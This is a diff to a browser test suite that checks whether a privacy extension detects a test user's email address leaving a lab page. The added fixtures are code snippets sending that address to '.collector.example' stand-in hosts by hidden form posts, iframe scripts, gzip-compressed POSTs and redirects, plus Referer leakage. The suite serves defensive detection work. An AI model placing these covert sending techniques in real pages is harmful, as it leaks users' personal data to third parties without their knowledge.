@@ -5,7 +5,9 @@ import { after, before, test } from "node:test";
 import { LAB } from "../site/lab/answer.js";
 import { Customer } from "./customer.js";
 import { eventually } from "./eventually.js";
+import { sightings } from "./reader.js";
 import { browserName, openWatched } from "./stage.js";
+import { tableOfLedger } from "./table.js";
 import { nora } from "./visitor.js";
 
 /** @typedef {"found" | "unread" | "part"} Shown - "part": found, and something else could not be read */
@@ -38,6 +40,22 @@ const TRANSPORTS = {
   "image-query": { code: "new Image().src = to + '?' + new URLSearchParams({ text })", chromium: "found", firefox: "found" },
   "script-query": { code: "const script = document.createElement('script'); script.src = to + '?' + new URLSearchParams({ text }); document.head.append(script)", chromium: "found", firefox: "found" },
   "header": { code: "fetch(to, { headers: { 'X-Person': text } })", chromium: "found", firefox: "found" },
+  "gzip-bytes": {
+    code: `const zipped = new Response(new Blob([text]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer();
+      zipped.then((body) => fetch(to, { method: 'POST', mode: 'no-cors', body }))`,
+    chromium: "found",
+    firefox: "found",
+  },
+  "form-post": {
+    code: "const form = document.createElement('form'); form.method = 'post'; form.action = to; form.target = 'other'; form.innerHTML = '<input name=text>'; form.firstChild.value = text; const frame = document.createElement('iframe'); frame.name = 'other'; document.body.append(frame, form); form.submit()",
+    chromium: "found",
+    firefox: "found",
+  },
+  "frame-fetch": {
+    code: "const frame = document.createElement('iframe'); frame.srcdoc = `<script>fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })<\/script>`; document.body.append(frame)",
+    chromium: "found",
+    firefox: "found",
+  },
   "worker-fetch": {
     code: "const source = `fetch(${JSON.stringify(to)}, { method: 'POST', mode: 'no-cors', body: ${JSON.stringify(text)} })`; new Worker(URL.createObjectURL(new Blob([source])))",
     chromium: "found",
@@ -65,8 +83,7 @@ for (const [name, { code, ...shown }] of Object.entries(TRANSPORTS)) {
     const tabId = await stage.extension.tabId();
     await stage.browser.driver.executeScript(`const [to, text] = arguments; ${code}`, `https://${host}/take`, nora.email);
     const told = await record.arrival(`${name}'s request`, ({ host: to, method }) => to === host && method !== "OPTIONS");
-    const wire = [decodeURIComponent(told.url), decodeURIComponent(told.body.toString()), ...told.headers.map(([, value]) => value)];
-    assert.ok(wire.some((text) => text.includes(nora.email)), "the server did not get the address");
+    assert.ok(sightings(told, nora).some(({ identifier }) => identifier === "email-1"), "the server did not get the address");
 
     await stage.sentinel.passed();
     const found = (await stage.extension.ledger()).filter(({ finding, counts }) => finding.recipient.host === host && counts.sent > 0);
@@ -75,5 +92,32 @@ for (const [name, { code, ...shown }] of Object.entries(TRANSPORTS)) {
       { found: found.map(({ finding }) => finding.identifier.id), unread },
       { found: expected === "unread" ? [] : ["email-1"], unread: expected === "found" ? 0 : 1 },
     );
+  });
+}
+
+test("a page's URL that goes along as the Referer is found there", async () => {
+  const host = "referer.collector.example";
+  await customer.visit(`${LAB}/?policy=unsafe-url&email=${nora.email}`);
+  await stage.browser.driver.executeScript("new Image().src = arguments[0]", `https://${host}/`);
+  const told = await stage.site.record.arrival("the picture's request", (recorded) => recorded.host === host);
+  // Firefox cuts the Referer for another site to the origin, whatever the page asks for.
+  const places = browserName() === "chromium" ? ["header -"] : [];
+  assert.deepEqual(sightings(told, nora).map(({ carrier }) => `${carrier} -`), places);
+  await stage.sentinel.passed();
+  assert.deepEqual(tableOfLedger(await stage.extension.ledger())[host]?.["email-1"]?.places ?? [], places);
+});
+
+for (const [status, method] of /** @type {const} */ ([[307, "POST"], [302, "GET"]])) {
+  test(`a redirect with status ${status} passes on ${method === "POST" ? "the body as well" : "no body"}`, async () => {
+    const [from, target] = [`from-${status}.collector.example`, `to-${status}.collector.example`];
+    await customer.visit(`${LAB}/?redirect=${status}`);
+    const url = `https://${from}/?status=${status}&next=${encodeURIComponent(`https://${target}/`)}`;
+    await stage.browser.driver.executeScript("fetch(arguments[0], { method: 'POST', mode: 'no-cors', body: arguments[1] })", url, nora.email);
+    const told = await stage.site.record.arrival("the second request", (recorded) => recorded.host === target);
+    assert.equal(told.method, method);
+    await stage.sentinel.passed();
+    const table = tableOfLedger(await stage.extension.ledger());
+    const body = { "email-1": { requests: 1, places: ["body -"] } };
+    assert.deepEqual([table[from], table[target]], [body, method === "POST" ? body : undefined]);
   });
 }
